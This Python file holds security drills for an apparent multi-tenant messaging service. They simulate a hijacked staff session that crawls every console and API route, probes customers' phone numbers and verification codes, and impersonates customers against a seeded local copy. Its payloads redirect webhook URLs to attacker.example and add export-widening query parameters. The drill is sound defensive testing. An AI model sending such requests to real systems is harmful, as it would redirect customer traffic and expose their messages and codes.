"""D05, D06, D07: the attacker has the browser of a member of staff, who is signed in.

D05 asks every route of both consoles and of the API for every tenant. D06 looks 41 telephone numbers up, has codes
sent to them and looks for the codes. D07 acts as the customer. What comes back is scanned, or compared; the product is
not asked.
"""

import asyncio
import contextlib
import hashlib
import re
import sqlite3
import tempfile
import time
from collections import Counter
from collections.abc import AsyncIterator, Iterator, Sequence
from pathlib import Path
from urllib.parse import quote, urlencode

import msgspec

from ringfence.api.app import operations, own_operations
from ringfence.api.resource import CORE
from ringfence.domain.verify_service import VerifyService
from ringfence.drills.design import Design
from ringfence.drills.drill import Drill
from ringfence.drills.held_browser import HeldBrowser, signed_browser
from ringfence.drills.kept_http import KeptHttp
from ringfence.drills.key_process import apart
from ringfence.drills.report import Finding
from ringfence.drills.seeded_copy import SeededCopy, Tenant
from ringfence.roles.settings import Settings
from ringfence.usecases.verify.start_request import StartRequest

CRAWL, CRAWL_TITLE = "D05", "a session of staff crawls both consoles and the API"
SEARCH, SEARCH_TITLE = "D06", "numbers looked up by staff, and codes that were sent to them"
ACTING, ACTING_TITLE = "D07", "staff act as the customer"
# Of 2022: three users of a messenger, and 38 others whose numbers were searched for.
NUMBERS = 41
DIGITS = 10
AT_ONCE = 32
METHODS = ("POST", "PUT", "PATCH", "DELETE")
# Names under which a search, an inclusion or an export might have been left in.
_ASKED = ("q", "query", "search", "number", "phone", "To", "From", "account", "AccountSid", "sid")
_WIDER = {"include": "messages,content,body", "expand": "all", "format": "csv", "export": "1", "PageSize": "1000"}
_VARIABLE = re.compile(r"\{[^}]*\}")
# What names a customer changes by, that somebody acting as him would use.
_CHANGES = {
    "url": "https://attacker.example/",
    "SmsUrl": "https://attacker.example/",
    "FriendlyName": "owned",
    "name": "owned",
    "reason": "help",
    "minutes": 480,
    "Status": "closed",
    "email": "attacker@attacker.example",
}
_STATE = ("account", "credential", "number")


class _Attack:
    """What the attacker asked and what came."""

    def __init__(self, copy: SeededCopy, browser: HeldBrowser, settings: Settings) -> None:
        self.copy = copy
        self.browser = browser
        self.settings = settings
        self.asked = 0
        self.seen: set[bytes] = set()
        self._turns = asyncio.Semaphore(AT_ONCE)

    async def ask(self, method: str, path: str, body: bytes = b"", kind: str = "application/json") -> bytes:
        """One request to the consoles."""
        async with self._turns:
            answer = await self.browser.ask(method, path, body, kind)
        self.asked += 1
        self.seen.add(answer.body)
        return b"%d " % answer.status + answer.body

    def filled(self, method: str, tenant: Tenant, messages: Sequence[str]) -> Iterator[str]:
        """The paths of the consoles' routes of a method, with every name of the tenant's that staff may have heard."""
        for way, path in self.browser.routes:
            if way != method:
                continue
            if "{" not in path:
                yield path
                continue
            for name in (tenant.sid, tenant.number, tenant.customer, *messages):
                yield _VARIABLE.sub(lambda _, name=name: quote(name), path)  # type: ignore[misc]


def crawl(design: Design, tenants: int, database: str = "") -> Finding:
    """D05. A tenant is reached where a canary of its content or its secrets came back."""

    async def attack(one: _Attack) -> tuple[int, tuple[tuple[str, str], ...]]:
        api = list(_api_routes())
        answers: Counter[int] = Counter()
        async with KeptHttp(one.settings.port) as http:
            for n, tenant in enumerate(one.copy.tenants):
                messages = await one.copy.sids_of(tenant)
                paths = dict.fromkeys(one.filled("GET", tenant, messages))
                query = urlencode(dict.fromkeys(_ASKED, tenant.sid) | _WIDER)
                wider = [f"{path}?{query}" for path in paths if "{" not in path]
                await asyncio.gather(*(one.ask("GET", path) for path in (*paths, *wider)))
                # Each tenant has its turn with other routes of the API, so that all of them are asked.
                share = [route for k, route in enumerate(api) if k % len(one.copy.tenants) == n or n == 0]
                for method, path in [("GET", _MESSAGES), *share]:
                    where = path.replace("{AccountSid}", tenant.sid)
                    where = _VARIABLE.sub(messages[0] if messages else tenant.sid, where)
                    form: dict[str, str] | None = {} if method == "POST" else None
                    answer = await http.ask(method, where, form, basic=one.browser.credential)
                    one.seen.add(answer.body)
                    answers[answer.status] += 1
        found = one.copy.canaries.found_in(b"\n".join(one.seen))
        kinds = ", ".join(sorted({kind for _, kind in found})) or "none"
        rows = (
            ("routes of the consoles, requests", f"{len(one.browser.routes)}, {one.asked}"),
            (
                "routes of the API, answers",
                f"{len(api)}, {', '.join(f'{n} times {status}' for status, n in answers.items())}",
            ),
            ("kinds found", kinds),
        )
        return len({sid for sid, _ in found}), rows

    return _played(design, tenants, CRAWL, attack)


def number_search(design: Design, tenants: int, database: str = "") -> Finding:
    """D06. A number is reached where an answer about it differs from that about a number nobody has, or a code came."""

    async def attack(one: _Attack) -> tuple[int, tuple[tuple[str, str], ...]]:
        codes = await _codes(one.copy)
        resolved, read = set(), set()
        for n, tenant in enumerate(one.copy.tenants):
            stranger = f"+1213{7_000_000 + n}"
            for path in {path for _, path in one.browser.routes}:
                told = [await _about(one, path, number) for number in (tenant.customer, stranger)]
                if _without(told[0], tenant.customer) != _without(told[1], stranger):
                    resolved.add(tenant.customer)
                if any(codes[tenant.sid].encode() in answer for answer in told):
                    read.add(tenant.customer)
        rows = (
            ("numbers resolved", f"{len(resolved)}"),
            ("codes sent, read", f"{len(codes)}, {len(read)}"),
            ("requests", f"{one.asked}"),
        )
        return len(resolved | read), rows

    return _played(design, tenants, SEARCH, attack)


def acting(design: Design, tenants: int, database: str = "") -> Finding:
    """D07. A tenant is reached where anything of its account, its credentials or its numbers is not as it was."""

    async def attack(one: _Attack) -> tuple[int, tuple[tuple[str, str], ...]]:
        before = _states(one.settings.data_dir)
        forms = (
            (msgspec.json.encode(_CHANGES), "application/json"),
            (urlencode(_CHANGES).encode(), "application/x-www-form-urlencoded"),
        )
        api = [(method, path) for method, path in _api_routes() if method != "GET"]
        async with KeptHttp(one.settings.port) as http:
            for n, tenant in enumerate(one.copy.tenants):
                messages = await one.copy.sids_of(tenant)
                places = {path for method in ("GET", *METHODS) for path in one.filled(method, tenant, messages)}
                # A console's own session is left alone, as an attacker would leave it.
                await asyncio.gather(
                    *(
                        one.ask(method, path, body, kind)
                        for path in sorted(places)
                        for method in METHODS
                        for body, kind in forms
                        if "{" not in path and "sign-out" not in path
                    )
                )
                for k, (method, path) in enumerate(api):
                    if k % len(one.copy.tenants) == n or n == 0:
                        where = _VARIABLE.sub(tenant.sid, path)
                        await http.ask(method, where, {"FriendlyName": "owned"}, basic=one.browser.credential)
                        one.asked += 1
        after = _states(one.settings.data_dir)
        changed = [tenant.sid for tenant in one.copy.tenants if before[tenant.sid] != after.get(tenant.sid)]
        return len(changed), (("requests that would change something", f"{one.asked}"),)

    return _played(design, tenants, ACTING, attack)


_MESSAGES = "/2010-04-01/Accounts/{AccountSid}/Messages.json"


def _played(design: Design, tenants: int, drill: str, attack) -> Finding:  # type: ignore[no-untyped-def]
    started = time.monotonic()

    async def story(folder: Path) -> tuple[int, tuple[tuple[str, str], ...]]:
        async with _signed_in(folder, design, tenants) as one:
            reached: tuple[int, tuple[tuple[str, str], ...]] = await attack(one)
            return reached

    with tempfile.TemporaryDirectory(prefix="ringfence-drill-") as folder:
        reached, rows = asyncio.run(story(Path(folder)))
    return Finding(
        drill=drill,
        design=design.name,
        tenants=tenants,
        reached=reached,
        seconds=time.monotonic() - started,
        rows=rows,
    )


@contextlib.asynccontextmanager
async def _signed_in(folder: Path, design: Design, tenants: int) -> AsyncIterator[_Attack]:
    """Tenants with a text each, on their way, in an installation with an API; and the browser."""
    async with apart(folder, design, roles=("kms", "api")) as (copy, _, settings):
        await copy.add_tenants(tenants)
        for start in range(0, tenants, AT_ONCE):
            await asyncio.gather(*(copy.send(tenant, "body") for tenant in copy.tenants[start : start + AT_ONCE]))
        async with (design.held_browser or signed_browser)(settings, copy) as browser:
            yield _Attack(copy, browser, settings)


async def _codes(copy: SeededCopy) -> dict[str, str]:
    """Every tenant sends its customer a code, which is on that handset."""
    codes = {}
    async with copy.dispatched():
        for tenant in copy.tenants:
            service = await copy.verify_service(tenant, VerifyService(friendly_name="Shop", code_length=DIGITS))
            begun = await copy.verifying.starter.start(
                tenant.caller, service, StartRequest(to=tenant.customer, channel="sms")
            )
            codes[tenant.sid] = await copy.code_on_handset(begun, tenant.customer)
    return codes


async def _about(one: _Attack, path: str, number: str) -> bytes:
    """What one place of the consoles says of a number, in its path and in its query."""
    where = _VARIABLE.sub(quote(number), path)
    return await one.ask("GET", f"{where}?{urlencode(dict.fromkeys(_ASKED, number) | _WIDER)}")


def _without(answer: bytes, number: str) -> bytes:
    """An answer without the number that was asked, and without what differs between any two answers."""
    for written in (number, quote(number), number[1:]):
        answer = answer.replace(written.encode(), b"N")
    return re.sub(rb"ringfence-now: \d+|\d\d:\d\d:\d\d|[A-Z]{2}[0-9a-f]{32}", b"", answer)


def _api_routes() -> Iterator[tuple[str, str]]:
    for operation in (*operations(), *own_operations()):
        prefix = "" if operation.product == CORE else f"/{operation.product}"
        end = ".json" if operation.product == CORE else ""
        yield operation.method, f"{prefix}{operation.path}{end}"


def _states(folder: Path) -> dict[str, str]:
    """A hash of what the store has of each account: its row, its credentials, its numbers."""
    rows: dict[str, list[str]] = {}
    with contextlib.closing(sqlite3.connect(folder / "ringfence.db")) as database:
        for table in _STATE:
            names = [column[1] for column in database.execute(f"PRAGMA table_info({table})")]
            at = names.index("account" if "account" in names else "sid")
            for row in database.execute(f"SELECT * FROM {table}"):  # noqa: S608 - a constant
                rows.setdefault(row[at], []).append(repr(row))
    return {sid: hashlib.sha256("\n".join(sorted(of_one)).encode()).hexdigest() for sid, of_one in rows.items()}


DRILLS = (
    Drill(name=CRAWL, title=CRAWL_TITLE, play=crawl, tenants=1_000),
    Drill(
        name=SEARCH,
        title=SEARCH_TITLE,
        play=number_search,
        tenants=NUMBERS,
        each="numbers",
    ),
    Drill(name=ACTING, title=ACTING_TITLE, play=acting, tenants=100),
)
